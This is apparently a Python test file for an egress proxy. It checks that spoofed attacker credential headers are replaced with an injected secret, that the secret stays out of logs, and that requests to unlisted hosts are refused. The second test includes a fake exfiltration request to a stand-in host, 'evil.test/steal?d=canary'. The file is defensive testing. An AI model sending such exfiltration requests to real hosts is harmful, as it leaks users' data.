"""Egress, dialler and recorder together: what passes, what is refused, and what the world saw of it."""

from rig.bundle import Bundle, route
from rig.core import Rig

RIG = True


def test_an_allowed_host_answers_with_the_injected_credential_only():
    with Rig() as rig:
        secret = rig.secret("token")
        with Bundle([route("allowed.test", token="TOKEN")], {"TOKEN": secret}) as bundle:
            answer = bundle.https("allowed.test", "/echo?a=1", "POST",
                                  [("Authorization", "Bearer attacker"), ("x-api-key", "attacker"),
                                   ("Cookie", "a=attacker"), ("X-Mine", "yes"), ("X_Api_Key", "attacker")], b"hello")
            assert answer.status == 200, (answer, bundle.log())
            echo = answer.json
            assert ["Authorization", "Bearer <secret token>"] in echo["headers"], echo
            assert ["X-Mine", "yes"] in echo["headers"]
            assert "attacker" not in str(echo["headers"])
            assert (echo["method"], echo["target"], echo["body"]) == ("POST", "/echo?a=1", "hello")
            record = bundle.records()
            assert len(record) == 1, record
            assert record[0]["verdict"] == "allowed" and record[0]["auth"] is True
            assert secret not in str(record)


def test_a_refused_host_is_told_inside_tls_and_nothing_is_looked_up():
    with Rig() as rig:
        with Bundle([route("allowed.test")]) as bundle:
            mark = rig.events.mark()
            answer = bundle.https("evil.test", "/steal?d=canary")
            assert answer.status == 403, answer
            assert "'evil.test'" in answer.text and "- host: evil.test" in answer.text
            assert rig.silence(mark) == []
            assert [r["reason"] for r in bundle.records()] == ["host_not_allowed"]
            assert bundle.https("allowed.test").status == 200  # the twin
            assert rig.events.all("dns", name="allowed.test")
